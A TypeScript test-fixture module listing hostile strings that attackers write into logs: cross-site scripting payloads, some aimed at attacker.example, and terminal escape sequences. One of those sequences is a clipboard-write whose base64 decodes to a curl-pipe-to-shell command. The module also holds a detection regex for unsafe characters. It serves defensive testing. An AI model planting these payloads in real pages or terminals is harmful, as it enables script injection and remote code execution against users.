/** What attackers write into logs. */

/** For browsers. */
export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<form action=https://attacker.example/><input name=a autofocus onfocus=alert(3)></form>',
  '<a href="javascript:alert(4)">click</a>',
  'javascript:alert(5)',
  '<svg onload=alert(6)><style>*{display:none}</style>',
  '"><iframe src=https://attacker.example/></iframe>',
  "';alert(7)//",
  '{{constructor.constructor("alert(8)")()}}',
];

/** For terminals: one of each kind that a terminal obeys or shows wrongly. */
export const CONTROLS: readonly (readonly [name: string, text: string])[] = [
  ['ESC [', '\u001b[2J\u001b[31mred'],
  ['OSC 8, a link', '\u001b]8;;https://attacker.example/\u0007here\u001b]8;;\u0007'],
  ['OSC 52, the clipboard', '\u001b]52;c;Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo\u0007'],
  ['OSC 0, the title', '\u001b]0;owned\u001b\\'],
  ['C1 CSI', '\u009b2J'],
  ['C1 OSC', '\u009d52;c;QQ==\u009c'],
  ['bidi override', '\u202egnp.exe\u202c'],
  ['bidi isolate', '\u2066hidden\u2069'],
  ['zero width', 'ad\u200bmin'],
  ['CR and LF', 'first\rsecond\r\n[LOG] forged line'],
  ['backspace, bell, NUL, DEL', 'a\bb\u0007c\u0000d\u007fe'],
  ['line separators', 'x\u2028y\u2029z'],
  ['lone surrogates', '\ud800 and \udfff'],
  ['tags', 'tag\u{e0041}\u{e007f}'],
];

/** Whatever of this reaches a terminal is obeyed or misread there. CR and LF are judged by place. */
export const RAW =
  /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]|\p{Surrogate}|\r(?!\n)/u;
